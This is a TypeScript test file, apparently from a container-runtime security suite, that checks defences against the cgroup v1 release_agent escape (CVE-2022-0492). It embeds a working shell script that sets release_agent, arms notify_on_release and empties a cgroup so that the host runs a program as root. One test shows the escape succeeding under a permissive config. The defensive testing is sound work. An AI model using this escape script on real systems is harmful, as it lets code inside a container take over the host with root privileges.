// CVE-2022-0492: the kernel runs the program in a v1 hierarchy's `release_agent` as root of the host when a cgroup with
// `notify_on_release` becomes empty. The last case lends a hierarchy's root to a container that may set its agent: there the same
// script works, so the others fail for what the runtime keeps from them.
import { spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Box } from '../harness/box.js';
import { type CaseOptions, succeeded, type Tap } from '../harness/case.js';
import { patience } from '../harness/command.js';
import { hierarchies } from '../harness/machine/cgroup.js';
import { type Config, shell } from '../harness/config.js';
import { attack as test } from './attack.js';

const v1 = hierarchies.filter(({ version }) => version === 1);
const options: CaseOptions = { skip: v1.length === 0 && 'only cgroup v1 has it' };

const agents = (): string[] => v1.map(({ path }) => readFileSync(join(path, 'release_agent'), 'utf8'));

/** Sets the agent wherever there is one, or by remounting, and lets a new cgroup of each hierarchy in `places` become empty. */
const script = (agent: string, places: string): string => `
  for place in ${places}; do
    find $place -name release_agent | while read file; do echo ${agent} > $file && echo set; done
    mount -o remount,release_agent=${agent} $place && echo set
    mkdir $place/emptied && echo 1 > $place/emptied/notify_on_release && echo armed
    sh -c "echo \\$\\$ > $place/emptied/cgroup.procs"
    rmdir $place/emptied
  done`;

/** What the container runs before it tries, and the cgroups that it then has, by their paths there. */
interface Ground {
  readonly first?: string;
  readonly places: string;
}

interface Attempt {
  readonly stdout: string;
  /** The file that the agent writes on the host. */
  readonly escaped: string;
}

async function attempt(t: Tap, box: Box, adjust: (config: Config) => Ground): Promise<Attempt> {
  const container = box.container();
  const agent = join(container.rootfs, 'agent');
  writeFileSync(agent, `#!/bin/sh\nid > ${container.rootfs}/escaped\n`);
  chmodSync(agent, 0o755);
  const { first = ':', places } = adjust(container.config);
  container.config.process.args = shell(`${first}; ${script(agent, places)}; true`);
  container.writeConfig();
  const result = await container.run();
  succeeded(t, result);
  t.match(result.stdout, /^armed$/m, 'it may make cgroups that notify');
  return { stdout: result.stdout, escaped: join(container.rootfs, 'escaped') };
}

async function escape(t: Tap, box: Box, adjust: (config: Config) => Ground): Promise<void> {
  const before = agents();
  const { stdout, escaped } = await attempt(t, box, adjust);
  t.notMatch(stdout, /^set$/m);
  // The kernel starts the agent when it has time.
  await sleep(300);
  t.notOk(existsSync(escaped), 'no program ran on the host');
  t.same(agents(), before, "the host's agents");
}

test(
  'through its own cgroups, which it may write',
  (t, box) =>
    escape(t, box, (config) => {
      config.mounts.push({ destination: '/sys', type: 'sysfs', source: 'sysfs', options: ['ro'] });
      config.mounts.push({ destination: '/sys/fs/cgroup', type: 'cgroup', source: 'cgroup' });
      return { places: '/sys/fs/cgroup/freezer /sys/fs/cgroup/pids' };
    }),
  options,
);

test(
  'as root of a user namespace that mounts the hierarchies in a cgroup namespace of its own',
  (t, box) =>
    escape(t, box, (config) => {
      const all = ['CAP_SYS_ADMIN', 'CAP_DAC_OVERRIDE'];
      config.process.capabilities = { bounding: all, effective: all, permitted: all };
      config.linux.namespaces.push({ type: 'user' }, { type: 'cgroup' });
      config.linux.uidMappings = config.linux.gidMappings = [{ containerID: 0, hostID: 0, size: 65_536 }];
      return { first: 'mkdir /own; mount -t cgroup -o freezer cgroup /own', places: '/own' };
    }),
  options,
);

/** A hierarchy without controllers, which is nobody else's, and gone with its mount. */
function ownHierarchy(box: Box): string {
  const path = box.path('hierarchy');
  mkdirSync(path);
  const { status, stderr } = spawnSync('mount', ['-t', 'cgroup', '-o', `none,name=${box.name}`, 'cgroup', path]);
  if (status !== 0) throw new Error(String(stderr));
  box.atEnd(() => spawnSync('umount', [path]));
  return path;
}

test(
  'works where a config lends the root of a hierarchy, and the right to set its agent',
  async (t, box) => {
    const source = ownHierarchy(box);
    const { stdout, escaped } = await attempt(t, box, (config) => {
      const all = ['CAP_SYS_ADMIN', 'CAP_DAC_OVERRIDE'];
      config.process.capabilities = { bounding: all, effective: all, permitted: all };
      config.mounts.push({ destination: '/lent', type: 'bind', source, options: ['bind', 'rw'] });
      return { places: '/lent' };
    });
    t.match(stdout, /^set$/m);
    const end = performance.now() + 5000 * patience;
    while (!existsSync(escaped) && performance.now() < end) await sleep(20);
    t.ok(existsSync(escaped), 'the program ran on the host');
  },
  options,
);
